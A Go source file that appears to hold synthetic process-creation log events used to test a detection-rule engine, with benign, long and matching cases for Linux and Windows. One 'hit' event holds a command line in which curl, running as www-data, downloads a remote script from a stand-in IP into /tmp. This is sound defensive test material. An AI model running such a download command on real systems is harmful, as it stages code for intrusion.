package rule

import "strings"

var (
	windowsProcess = LogSource{Product: "windows", Category: "process_creation"}
	linuxProcess   = LogSource{Product: "linux", Category: "process_creation"}
)

func event(s *Set, source LogSource, fields map[string]string) *Fields {
	f := s.NewFields(source)
	for k, v := range fields {
		f.Put(k, v)
	}
	return f
}

// linuxEvents are processes as servers start them.
func linuxEvents() map[string]map[string]string {
	return map[string]map[string]string{
		"benign": {
			"Image": "/usr/bin/ls", "CommandLine": "ls -la /var/log/nginx", "User": "root", "CurrentDirectory": "/root",
			"ParentImage": "/usr/bin/bash", "ParentCommandLine": "-bash", "LogonId": "3",
		},
		"long": {
			"Image": "/usr/lib/jvm/java-21/bin/java", "User": "app", "CurrentDirectory": "/opt/app",
			"CommandLine": "/usr/lib/jvm/java-21/bin/java -server " + strings.Repeat("-Dservice.option.name=some/value,and:more -XX:+UseG1GC ", 22),
			"ParentImage": "/usr/lib/systemd/systemd", "ParentCommandLine": "/sbin/init", "LogonId": "4294967295",
		},
		"hit": {
			"Image": "/usr/bin/curl", "CommandLine": "curl -s http://192.0.2.7/x.sh -o /tmp/x.sh", "User": "www-data",
			"ParentImage": "/usr/bin/bash", "ParentCommandLine": "bash -c id", "CurrentDirectory": "/tmp",
		},
	}
}

func windowsEvents() map[string]map[string]string {
	return map[string]map[string]string{
		"benign": {
			"Image": `C:\Program Files\Git\cmd\git.exe`, "OriginalFileName": "git.exe", "CommandLine": `"C:\Program Files\Git\cmd\git.exe" status --porcelain`,
			"ParentImage": `C:\Users\dev\AppData\Local\Programs\Microsoft VS Code\Code.exe`, "ParentCommandLine": `"C:\Users\dev\AppData\Local\Programs\Microsoft VS Code\Code.exe"`,
			"User": `CORP\dev`, "IntegrityLevel": "Medium", "Description": "Git for Windows", "Product": "Git", "Company": "The Git Development Community",
			"CurrentDirectory": `C:\src\project\`, "Hashes": "SHA256=0123456789ABCDEF0123456789ABCDEF0123456789ABCDEF0123456789ABCDEF",
		},
		"powershell": {
			"Image": `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, "OriginalFileName": "PowerShell.EXE",
			"CommandLine": `powershell.exe -NoProfile -ExecutionPolicy Bypass -Command "` + strings.Repeat(`$items = Get-ChildItem -Path C:\Data | Where-Object { $_.Length -gt 1024 }; foreach ($i in $items) { Write-Output $i.FullName }; `, 8) + `"`,
			"ParentImage": `C:\Windows\System32\svchost.exe`, "ParentCommandLine": `C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule`,
			"User": `NT AUTHORITY\SYSTEM`, "IntegrityLevel": "System", "Description": "Windows PowerShell", "Product": "Microsoft Windows Operating System", "Company": "Microsoft Corporation",
			"CurrentDirectory": `C:\Windows\system32\`, "Hashes": "SHA256=0123456789ABCDEF0123456789ABCDEF0123456789ABCDEF0123456789ABCDEF",
		},
	}
}
